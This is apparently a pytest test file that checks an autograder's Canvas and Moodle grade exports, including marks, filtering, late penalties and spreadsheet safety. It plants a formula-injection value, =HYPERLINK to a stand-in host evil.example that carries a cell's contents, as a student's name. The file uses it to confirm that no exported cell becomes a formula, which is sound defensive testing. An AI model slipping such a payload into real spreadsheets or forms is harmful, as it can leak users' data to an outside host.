"""Marks for Canvas and Moodle, written by `nbgrader export` and read back."""

import csv
import io

import pytest
from nbgrader.api import Gradebook

from autograder.sample_class import nbgrader
from autograder.spreadsheet import read_rows
from tests.conftest import require_sandbox
from tests.grading.courses import ASSIGNMENT, Course

HOSTILE = '=HYPERLINK("http://evil.example?x="&A1;"see"),\n🦊'


@pytest.fixture(scope="module")
def graded(tmp_path_factory, released):
    """Three who handed in, and one who did not. Its exports change nothing in it."""
    require_sandbox()
    course = Course(tmp_path_factory.mktemp("graded") / "course", released)
    course.submit("all_right", "empty", "not_json")
    assert course.grade().returncode == 1
    with Gradebook(course.db_url) as gradebook:
        gradebook.update_or_create_student(
            "all_right", first_name=HOSTILE, last_name="Doe", lms_user_id="4711", email="a@b.org"
        )
        gradebook.add_student("=absent, 🦊", first_name="-", lms_user_id="4712")
    return course


def exported(course, system, *options):
    path = course.folder / f"{system}.csv"
    plugin = f"--exporter=autograder.lms.exports.{system}Export"
    said = nbgrader(course.folder, "export", plugin, f"--to={path}", *options)
    return read_rows(path.read_bytes().decode()), said


def test_canvas(graded):
    # 25 of the 27 points are for what a machine can mark.
    (most, *rows), said = exported(graded, "Canvas")
    assert list(most) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
    assert (most["Student"].strip(), float(most[ASSIGNMENT])) == ("Points Possible", 27)
    by_id = {row["SIS Login ID"]: row for row in rows}
    assert by_id["all_right"]["Student"] == f"Doe, {HOSTILE}"
    assert by_id["all_right"]["ID"] == "4711"
    marks = {name: row[ASSIGNMENT] for name, row in by_id.items()}
    assert marks == {"all_right": "25.0", "empty": "0.0", "not_json": "", "=absent, 🦊": ""}
    assert "1 marks may rise" in said
    assert "1 handed in and not graded: left empty" in said


def test_moodle(graded):
    rows, _ = exported(graded, "Moodle")
    by_id = {row["Username"]: row for row in rows}
    assert by_id["all_right"] == {
        "First name": HOSTILE,
        "Last name": "Doe",
        "Username": "all_right",
        "ID number": "4711",
        "Email address": "a@b.org",
        ASSIGNMENT: "25.0",
    }
    assert by_id["=absent, 🦊"]["First name"] == "-"


@pytest.mark.parametrize("system", ["Canvas", "Moodle"])
def test_no_cell_is_a_formula(graded, system):
    exported(graded, system)
    text = (graded.folder / f"{system}.csv").read_bytes().decode()
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not [cell for cell in row if cell.lstrip()[:1] in set("=+-@")]


def test_only_some(graded):
    rows, _ = exported(graded, "Moodle", '--CanvasExport.student=["empty"]')
    assert len(rows) == 4
    rows, _ = exported(graded, "Moodle", '--MoodleExport.student=["empty"]')
    assert [row["Username"] for row in rows] == ["empty"]


def test_a_late_penalty_and_a_persons_mark_count(graded, tmp_path):
    copy = Course(tmp_path / "course", graded.folder)
    with Gradebook(copy.db_url) as gradebook:
        notebook = gradebook.find_submission(ASSIGNMENT, "all_right").notebooks[0]
        [written] = [grade for grade in notebook.grades if grade.auto_score is None]
        written.manual_score, notebook.late_submission_penalty = 2, 5
        gradebook.db.commit()
    rows, _ = exported(copy, "Moodle")
    [mark] = [row[ASSIGNMENT] for row in rows if row["Username"] == "all_right"]
    assert float(mark) == 25 + 2 - 5
